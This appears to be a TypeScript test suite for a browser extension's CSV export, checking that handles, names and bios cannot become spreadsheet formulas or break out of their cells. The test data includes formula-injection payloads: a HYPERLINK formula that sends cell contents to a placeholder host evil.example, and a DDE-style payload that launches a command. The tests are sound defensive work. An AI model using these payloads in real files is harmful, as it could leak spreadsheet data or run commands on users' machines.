/**
 * CSV export (extension/background/csv.ts): attacker-written text (handles, names, bios) must never reach a
 * spreadsheet as a formula, and must never break out of its cell.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../extension/background/csv';

/** Splits one RFC 4180 line back into cells (quoted fields, doubled quotes). */
function parseLine(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let s = '';
      i++;
      while (i < line.length) {
        if (line[i] === '"' && line[i + 1] === '"') {
          s += '"';
          i += 2;
        } else if (line[i] === '"') {
          i++;
          break;
        } else s += line[i++];
      }
      cells.push(s);
      i++; // the comma
    } else {
      const end = line.indexOf(',', i);
      cells.push(line.slice(i, end === -1 ? line.length : end));
      i = end === -1 ? line.length + 1 : end + 1;
    }
  }
  return cells;
}

describe('csvCell', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
  ])('neutralises the formula %j', (payload) => {
    const cell = parseLine(csvCell(payload))[0]!;
    expect(cell.startsWith("'")).toBe(true);
    expect(cell.slice(1)).toBe(payload);
  });

  it('leaves ordinary text and numbers alone', () => {
    expect(csvCell('plain handle')).toBe('plain handle');
    expect(csvCell(-5)).toBe('-5'); // a number is data, not a formula
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('any string survives a round trip as one cell, never starting a formula (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 5 }), (texts) => {
        const line = texts.map(csvCell).join(',');
        // A line break inside a quoted cell is legal CSV; only check lines we can split without a full parser.
        fc.pre(!/[\r\n]/.test(line));
        const cells = parseLine(line);
        expect(cells.length).toBe(texts.length);
        cells.forEach((c, i) => {
          expect(c).not.toMatch(/^[=+\-@\t\r]/);
          const t = texts[i]!;
          // Unchanged, or quote-prefixed exactly when the text would have started a formula.
          expect(c).toBe(/^[=+\-@\t\r]/.test(t) ? `'${t}` : t);
        });
      }),
      { numRuns: 500 },
    );
  });
});
